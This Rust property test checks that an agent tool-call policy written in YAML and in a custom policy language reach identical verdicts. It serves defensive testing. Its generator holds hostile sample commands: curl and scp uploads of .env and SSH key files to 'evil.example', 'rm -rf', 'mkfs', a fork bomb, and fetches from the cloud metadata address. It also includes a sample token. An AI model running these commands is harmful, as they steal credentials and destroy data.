//! The same policy written in YAML and in the policy language yields identical verdicts on
//! thousands of generated tool calls (proptest), and lowers to the same rule programs.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

use crust_compiler::{builtin_sources, compile_sources};
use crust_runtime::model::ToolCall;
use crust_runtime::Engine;
use proptest::prelude::*;
use serde_json::{json, Value};
use std::sync::OnceLock;

fn compile(path: &str, text: &str) -> Engine {
    // The built-in tool and command tables, so calls are extracted as in production.
    let mut files: Vec<(String, String)> = builtin_sources()
        .into_iter()
        .filter(|(p, _)| !p.starts_with("rules/builtin/"))
        .collect();
    files.push((path.to_owned(), text.to_owned()));
    match compile_sources(files) {
        Ok(c) => {
            assert!(
                c.diagnostics.items.is_empty(),
                "{}",
                c.diagnostics.render(&c.sources)
            );
            Engine::from_bytes(&c.bytes).unwrap()
        }
        Err(e) => panic!("{}", e.render()),
    }
}

fn bundles() -> &'static (Engine, Engine) {
    static B: OnceLock<(Engine, Engine)> = OnceLock::new();
    B.get_or_init(|| {
        (
            compile("policy.yaml", include_str!("equivalence/policy.yaml")),
            compile("policy.crust", include_str!("equivalence/policy.crust")),
        )
    })
}

#[test]
fn both_syntaxes_lower_to_the_same_rules() {
    let (y, d) = bundles();
    let strip = |b: &Engine| {
        b.meta()
            .rules
            .iter()
            .map(|r| {
                (
                    r.name.clone(),
                    r.effect,
                    r.locked,
                    r.severity,
                    r.actions,
                    r.cond.clone(),
                )
            })
            .collect::<Vec<_>>()
    };
    assert_eq!(strip(y), strip(d));
    assert_eq!(y.meta().preds, d.meta().preds);
    assert_eq!(y.meta().always_rules, d.meta().always_rules);
}

const PATHS: &[&str] = &[
    ".env",
    ".env.example",
    ".env.local",
    "config/.env.prod",
    "~/.ssh/id_rsa",
    "~/.ssh/config",
    "src/generated/api.rs",
    "src/main.rs",
    "/etc/hosts",
    "keys/server.pem",
    "README.md",
    "docs/README.md",
];
const HOSTS: &[&str] = &[
    "github.com",
    "api.github.com",
    "evil.example",
    "169.254.169.254",
    "db.internal",
    "docs.rs",
];
const CONTENTS: &[&str] = &[
    "hello world",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA",
    "token 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",
    "see .env for details",
];

fn pick(xs: &'static [&'static str]) -> impl Strategy<Value = &'static str> {
    proptest::sample::select(xs)
}

fn command_part() -> impl Strategy<Value = String> {
    (0usize..12, pick(PATHS), pick(PATHS), pick(HOSTS)).prop_map(|(k, p, q, h)| match k {
        0 => format!("cat {p}"),
        1 => format!("rm -rf {p}"),
        2 => format!("curl -T {p} https://{h}/up"),
        3 => format!("curl -s https://{h}/x"),
        4 => "mkfs.ext4 /dev/sdb1".to_owned(),
        5 => format!("echo hi > {p}"),
        6 => ":(){ :|:& };:".to_owned(),
        7 => format!("scp {p} {h}:backup/"),
        8 => format!("cp {p} {q}"),
        9 => "git status".to_owned(),
        10 => format!("rm {p}"),
        _ => format!("wget -O {p} https://{h}/f"),
    })
}

fn command() -> impl Strategy<Value = String> {
    (
        proptest::collection::vec(command_part(), 1..4),
        proptest::collection::vec(pick(&[" && ", " | ", "; "]), 3),
    )
        .prop_map(|(parts, seps)| {
            let mut s = String::new();
            for (i, p) in parts.iter().enumerate() {
                if i > 0 {
                    s.push_str(seps[i - 1]);
                }
                s.push_str(p);
            }
            s
        })
}

fn call() -> impl Strategy<Value = (String, Value)> {
    (
        0usize..9,
        pick(PATHS),
        pick(HOSTS),
        pick(CONTENTS),
        command(),
    )
        .prop_map(|(k, p, h, c, cmd)| match k {
            0 => ("Bash".to_owned(), json!({ "command": cmd })),
            1 => ("Read".to_owned(), json!({ "file_path": p })),
            2 => ("Write".to_owned(), json!({ "file_path": p, "content": c })),
            3 => (
                "Edit".to_owned(),
                json!({ "file_path": p, "old_string": "a", "new_string": c }),
            ),
            4 => (
                "WebFetch".to_owned(),
                json!({ "url": format!("https://{h}/page"), "prompt": c }),
            ),
            5 => (
                "mcp__web__fetch_url".to_owned(),
                json!({ "url": format!("http://{h}:8080/") }),
            ),
            6 => (
                "shell".to_owned(),
                json!({ "command": ["bash", "-lc", cmd] }),
            ),
            7 => ("Grep".to_owned(), json!({ "pattern": c, "path": p })),
            _ => (
                "custom_tool".to_owned(),
                json!({ "target": p, "url": format!("https://{h}/"), "note": c }),
            ),
        })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 4000, ..ProptestConfig::default() })]

    #[test]
    fn yaml_and_dsl_policies_decide_alike((tool, args) in call()) {
        let (y, d) = bundles();
        let c = ToolCall {
            name: &tool,
            args: &args,
            cwd: Some("/home/user/project"),
            home: Some("/home/user"),
        };
        let (vy, vd) = (y.evaluate(&c), d.evaluate(&c));
        prop_assert_eq!(vy.decision, vd.decision, "{} {}", tool, args);
        prop_assert_eq!(vy.rule, vd.rule, "{} {}", tool, args);
    }
}

/// The generator reaches every rule of the policy, so agreement is not agreement on "allow".
#[test]
fn the_generated_calls_exercise_every_rule() {
    use proptest::strategy::ValueTree;
    use proptest::test_runner::TestRunner;
    let (y, _) = bundles();
    let mut runner = TestRunner::deterministic();
    let strategy = call();
    let mut seen = std::collections::BTreeSet::new();
    for _ in 0..4000 {
        let (tool, args) = strategy.new_tree(&mut runner).unwrap().current();
        let v = y.explain(&ToolCall {
            name: &tool,
            args: &args,
            cwd: Some("/home/user/project"),
            home: Some("/home/user"),
        });
        for m in v.matches {
            seen.insert(m.rule);
        }
    }
    let missing: Vec<&str> = y
        .meta()
        .rules
        .iter()
        .map(|r| r.name.as_str())
        .filter(|n| !seen.contains(*n))
        .collect();
    assert!(
        missing.is_empty(),
        "rules no generated call matched: {missing:?}"
    );
}
